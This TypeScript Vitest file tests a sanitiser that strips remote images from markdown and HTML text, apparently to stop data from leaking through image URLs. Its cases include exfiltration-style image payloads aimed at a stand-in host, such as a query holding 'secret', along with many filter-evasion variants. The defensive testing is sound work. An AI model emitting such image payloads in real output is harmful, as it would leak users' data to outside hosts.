import { describe, expect, it } from 'vitest';

import { collectRemoteImageLabels, IMAGE_REMOVED, stripImages } from './strip-images.js';

const none = new Set<string>();

describe('stripImages', () => {
  it.each([
    ['https', '![x](https://evil.example/?q=secret)'],
    ['http with title', '![x](http://evil.example/a.png "title")'],
    ['upper-case scheme', '![x](HTTPS://evil.example/a.png)'],
    ['angle-bracketed target', '![x](<https://evil.example/a b.png>)'],
    ['protocol-relative', '![x](//evil.example/a.png)'],
    ['data URL', '![x](data:image/png;base64,iVBORw0KGgo=)'],
    ['entity-encoded scheme', '![x](&#104;ttps://evil.example/a.png)'],
    ['space before the target', '![x] (https://evil.example/a.png)'],
    ['balanced parentheses in the URL', '![x](https://evil.example/a_(b).png)'],
    ['nested alt text', '![a [b] ![c](./ok.png)](https://evil.example/)'],
    ['img tag', '<img src=https://evil.example/a.png>'],
    ['img tag with quotes and case', '<IMG alt="x" SRC="https://evil.example/a.png" />'],
    ['srcset on source', '<source srcset="https://evil.example/a.webp">'],
  ])('drops a remote image: %s', (_case, image) => {
    expect(stripImages(`before ${image} after`, none)).toBe(`before ${IMAGE_REMOVED} after`);
  });

  it('drops an unclosed remote target to the end of its line', () => {
    expect(stripImages('a ![x](https://evil.example/?q=secret more\nnext', none)).toBe(
      `a ${IMAGE_REMOVED}\nnext`,
    );
  });

  it('drops a nested remote image inside a kept one', () => {
    expect(stripImages('![![c](https://evil.example/)](./ok.png)', none)).toBe(
      `![${IMAGE_REMOVED}](./ok.png)`,
    );
  });

  it('keeps images with a plain relative path, ordinary links and generic-type code', () => {
    const text =
      '![diagram](docs/arch.png) [link](https://nodejs.org) Map<Image, object> `foo![0]` <object>';
    expect(stripImages(text, none)).toBe(text);
  });

  it('drops reference-style images whose definition points off-site, in any form', () => {
    const text = ['![x][r]', '![R][]', '![r]', '', '[r]: https://evil.example/?q=1'].join('\n');
    const labels = collectRemoteImageLabels([text]);
    expect(stripImages(text, labels).split('\n').slice(0, 3)).toEqual([
      IMAGE_REMOVED,
      IMAGE_REMOVED,
      IMAGE_REMOVED,
    ]);
  });

  it('resolves definitions across memories of one emission', () => {
    const labels = collectRemoteImageLabels(['see ![x][pix]', '> [PIX]:\n  <data:image/png,AA>']);
    expect(labels).toEqual(new Set(['pix']));
    expect(stripImages('see ![x][pix]', labels)).toBe(`see ${IMAGE_REMOVED}`);
  });

  it('keeps reference images whose definition is a relative path', () => {
    const text = '![x][r]\n[r]: ./local.png';
    expect(stripImages(text, collectRemoteImageLabels([text]))).toBe(text);
  });
});
